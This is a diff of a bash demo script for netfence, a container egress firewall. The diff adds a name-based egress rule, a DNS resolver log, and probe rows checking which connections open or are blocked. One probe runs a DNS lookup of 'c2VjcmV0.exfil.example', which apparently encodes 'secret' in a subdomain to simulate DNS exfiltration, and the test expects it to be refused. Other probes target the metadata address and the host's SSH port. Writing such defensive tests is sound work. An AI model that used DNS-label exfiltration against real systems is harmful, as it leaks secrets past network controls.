@@ -1,8 +1,11 @@
 #!/usr/bin/env bash
-# netfence demo: one real busybox container under runc with `restricted` and one egress rule,
-# in a throwaway world of network namespaces (nothing touches this machine's network). Probes
-# from inside the container, a table of what opened and what was blocked, `netfence status`,
-# then stop and check that nothing is left. Exit 0 only when every line matched.
+# netfence demo: one real busybox container under runc with `restricted`, an address rule and a
+# name rule, in a throwaway world of network namespaces (nothing touches this machine's
+# network). Probes from inside the container, a table of what opened and what was blocked (the
+# name's address opens only once the container looked it up, through netfence's resolver;
+# names nobody allowed are refused and never leave the machine), the resolver's log,
+# `netfence status`, then stop and check that nothing is left. Exit 0 only when every line
+# matched.
 set -uo pipefail
 
 cd "$(dirname "$0")/.." || exit 2
@@ -30,10 +33,12 @@ if ! nf_world_setup; then
 	exit 2
 fi
 
+nf_hostconf "{\"resolver_log\": \"$NF_TMP/resolver.log\"}"
 ID=$(nf_cid demo)
-nf_bundle demo io.netfence.policy=restricted "io.netfence.egress=$NF_PUB1:443"
-echo "Container $ID: io.netfence.policy=restricted, io.netfence.egress=$NF_PUB1:443"
-echo "(DNS allowed to the host's resolver $NF_DNS_OK)"
+nf_bundle demo io.netfence.policy=restricted "io.netfence.egress=$NF_PUB1:443, public.test:443"
+echo "Container $ID: io.netfence.policy=restricted,"
+echo "  io.netfence.egress=$NF_PUB1:443, public.test:443"
+echo "(its DNS to the host's resolver $NF_DNS_OK is answered by netfence-resolver)"
 if ! nf_start runc "$NF_BUNDLE" "$ID"; then
 	echo "demo: runc refused the container" >&2
 	exit 1
@@ -54,6 +59,7 @@ row() { # LABEL EXPECTED PROBE-ARGS...
 	out=$(nf_exec "$ID" /probe "$@" 2>&1) || rc=$?
 	ms=${out##* }
 	case $out in
+	"reply REFUSED"*) got=refused ;;
 	open* | answer* | reply*) got=open ;;
 	blocked*) got=blocked ;;
 	timeout*) got=timeout ;;
@@ -75,10 +81,15 @@ row() { # LABEL EXPECTED PROBE-ARGS...
 	fi
 	printf '%-38s | %-8s | %-24s | %s\n' "$label" "$expected" "$out" "$match"
 }
-row "tcp $NF_PUB1:443 (the egress rule)" open connect tcp "$NF_PUB1" 443
-row "dns $NF_DNS_OK allowed.test" open dns "$NF_DNS_OK" allowed.test
+row "tcp $NF_PUB1:443 (the address rule)" open connect tcp "$NF_PUB1" 443
+row "tcp $NF_PUB3:443 (not looked up yet)" blocked connect tcp "$NF_PUB3" 443
+row "dns public.test (the name rule)" open dns "$NF_DNS_OK" public.test
+row "tcp $NF_PUB3:443 (public.test, learned)" open connect tcp "$NF_PUB3" 443
+row "tcp $NF_PUB3:80 (learned, other port)" blocked connect tcp "$NF_PUB3" 80
+row "dns allowed.test (no rule names it)" refused dns "$NF_DNS_OK" allowed.test
+row "dns c2VjcmV0.exfil.example (leak)" refused dns "$NF_DNS_OK" c2VjcmV0.exfil.example
 row "tcp $NF_PUB1:80 (other port)" blocked connect tcp "$NF_PUB1" 80
-row "tcp $NF_PUB3:443 (other host)" blocked connect tcp "$NF_PUB3" 443
+row "tcp $NF_PUB2:443 (other host)" blocked connect tcp "$NF_PUB2" 443
 row "udp $NF_PUB1:53 (UDP)" blocked udp "$NF_PUB1" 53
 row "dns $NF_DNS_OTHER (other resolver)" blocked dns "$NF_DNS_OTHER" allowed.test
 row "tcp $NF_META:80 (metadata)" blocked connect tcp "$NF_META" 80
@@ -88,8 +99,17 @@ row "tcp $GW:22 (the gateway = host)" blocked connect tcp "$GW" 22
 row "tcp [$NF_PUB6]:443 (IPv6 off)" blocked connect tcp "$NF_PUB6" 443
 echo
 
+echo "The resolver's log (host key resolver_log):"
+sed 's/^/  /' "$NF_TMP/resolver.log" 2>/dev/null
+grep -q " learned public.test $NF_PUB3" "$NF_TMP/resolver.log" 2>/dev/null || bad=$((bad + 1))
+grep -q " refused c2vjcmv0.exfil.example" "$NF_TMP/resolver.log" 2>/dev/null || bad=$((bad + 1))
+echo
+
 echo "\$ netfence status"
 nf_netfence status || bad=$((bad + 1))
+echo
+echo "\$ netfence status $ID"
+nf_netfence status "$ID" || bad=$((bad + 1))
 echo
 
 echo "Stopping the container"
